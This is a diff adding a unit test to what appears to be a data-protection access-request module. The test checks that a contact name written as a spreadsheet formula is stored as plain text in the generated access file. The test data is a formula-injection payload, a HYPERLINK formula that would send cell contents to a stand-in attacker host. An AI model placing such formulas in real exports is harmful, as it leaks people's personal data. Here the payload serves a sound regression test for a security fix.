@@ -360,6 +360,27 @@ class TestMsArcoRequest(MsCase):
         request.action_generate_access_file()
         self._assert_full_access_file(self._workbook(request))
 
+    def test_access_file_cells_are_text(self):
+        """Finding 8: a contact named like a spreadsheet formula is written as
+        text in the access file, never as a live formula."""
+        hostile = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
+        self.solo.name = hostile
+        request = self._arco(self.solo)
+        request.action_generate_access_file()
+        book = openpyxl.load_workbook(
+            io.BytesIO(base64.b64decode(request.access_file)), data_only=False
+        )
+        cells = [
+            cell
+            for sheet in book.worksheets
+            for row in sheet.iter_rows()
+            for cell in row
+            if cell.value == hostile
+        ]
+        self.assertTrue(cells)
+        for cell in cells:
+            self.assertEqual(cell.data_type, "s")
+
     def test_access_file_only_for_access(self):
         """Only an access request produces a file."""
         request = self._arco(self.person, "rectification")
